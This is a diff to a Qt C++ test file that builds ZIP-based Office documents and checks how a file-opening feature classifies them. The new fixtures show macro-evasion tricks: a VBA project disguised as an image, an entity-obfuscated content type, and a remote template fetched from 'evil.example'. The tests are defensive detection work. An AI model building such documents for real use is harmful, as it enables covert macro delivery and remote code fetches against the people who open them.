@@ -7,6 +7,7 @@
 #include <QDesktopServices>
 #include <QDirIterator>
 #include <QFile>
+#include <QHash>
 #include <QMessageBox>
 #include <QPushButton>
 #include <QRegularExpression>
@@ -17,8 +18,8 @@
 using namespace Qt::StringLiterals;
 using files::Sample;
 
-/// A ZIP archive of empty files.
-static QByteArray zip(const QList<QByteArray> &names)
+/// A ZIP archive: what says of which parts an Office document is made says nothing, the others are empty.
+static QByteArray zip(const QList<QByteArray> &names, const QHash<QByteArray, QByteArray> &contents = {})
 {
     const auto number = [](quint32 value, int size) {
         QByteArray bytes;
@@ -28,14 +29,26 @@ static QByteArray zip(const QList<QByteArray> &names)
     };
     QByteArray files, list;
     for (const QByteArray &name : names) {
-        const QByteArray sizes = number(0, 12) + number(quint32(name.size()), 2) + number(0, 2);
+        const QByteArray content = contents.value(name, name == "[Content_Types].xml" ? "<Types/>" : "");
+        const QByteArray length = number(quint32(content.size()), 4);
+        const QByteArray sizes =
+            number(0, 4) + length + length + number(quint32(name.size()), 2) + number(0, 2);
         list += "PK\1\2" + number(20, 2) + number(20, 2) + number(0, 8) + sizes + number(0, 10)
             + number(quint32(files.size()), 4) + name;
-        files += "PK\3\4" + number(20, 2) + number(0, 8) + sizes + name;
+        files += "PK\3\4" + number(20, 2) + number(0, 8) + sizes + name + content;
     }
     return files + list + "PK\5\6" + number(0, 4) + number(quint32(names.size()), 2)
         + number(quint32(names.size()), 2) + number(quint32(list.size()), 4)
         + number(quint32(files.size()), 4) + number(0, 2);
+}
+
+/// An Office document whose parts are declared and related so.
+static QByteArray office(const QByteArray &types, const QByteArray &relations)
+{
+    return zip(
+        {"[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels", "word/media/a.png"},
+        {{"[Content_Types].xml", "<Types>" + types + "</Types>"},
+         {"word/_rels/document.xml.rels", "<Relationships>" + relations + "</Relationships>"}});
 }
 
 class tst_Opening : public QObject
@@ -68,6 +81,18 @@ private slots:
         row(u"a.docx"_s, zip({"[Content_Types].xml", "word/document.xml"}));
         row(u"a.xlsx"_s, zip({"[Content_Types].xml", "xl/workbook.xml"}));
         row(u"a.ods"_s, zip({"mimetype", "content.xml"}));
+        row(u"links.docx"_s,
+            office(
+                "<Default Extension='png' ContentType='image/png'/><Override PartName='/word/document.xml' "
+                "ContentType='application/"
+                "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/>",
+                "<Relationship "
+                "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink' "
+                "Target='https://example.org' TargetMode='External'/><Relationship "
+                "Type='http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
+                "core-properties' "
+                "Target='docProps/core.xml'/>"));
+        row(u"a.bmp"_s, "BM....");
         row(u"a.mp3"_s, "ID3\x04....");
         row(u"a.wav"_s, "RIFF....WAVEfmt ");
         row(u"a.ogg"_s, "OggS....");
@@ -138,7 +163,30 @@ private slots:
         row(u"a.txt"_s, "a\x1b[2J", "name says");
         row(u"a.txt"_s, "a\xff\xfe", "name says");
         row(u"a"_s, "text", "not known");
-        row(u"a.zip"_s, zip({"a"}), "not known");
+        // Macros under another name, what fetches something, and what cannot be read.
+        const QByteArray vba = "application/vnd.ms-office.vbaProject";
+        row(u"a.docx"_s, office("<Override PartName='/word/media/a.png' ContentType='" + vba + "'/>", ""),
+            "name says");
+        row(u"b.docx"_s,
+            office("<Default Extension='png' ContentType='application/vnd.ms-office.vba&#80;roject'/>", ""),
+            "name says");
+        row(u"c.docx"_s,
+            office("",
+                   "<Relationship Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' "
+                   "Target='media/a.png'/>"),
+            "name says");
+        row(u"d.docx"_s,
+            office("",
+                   "<Relationship Type='http://x/relationships/attachedTemplate' TargetMode='External' "
+                   "Target='http://evil.example/a.dotm'/>"),
+            "name says");
+        row(u"e.docx"_s, office("<Override", ""), "name says");
+        row(u"f.docx"_s,
+            zip({"[Content_Types].xml"}, {{"[Content_Types].xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><Types/>"}}),
+            "name says");
+        row(u"a.zip"_s, zip({"a"}), "an archive");
+        row(u"a.tar.gz"_s, "\x1f\x8b", "an archive");
+        row(u"a.tar"_s, "a", "an archive");
         row(u"a.xyz"_s, "text", "not known");
         row(u".txt"_s, "text", "not known");
         row(u"a.txt "_s, "text", "not known");
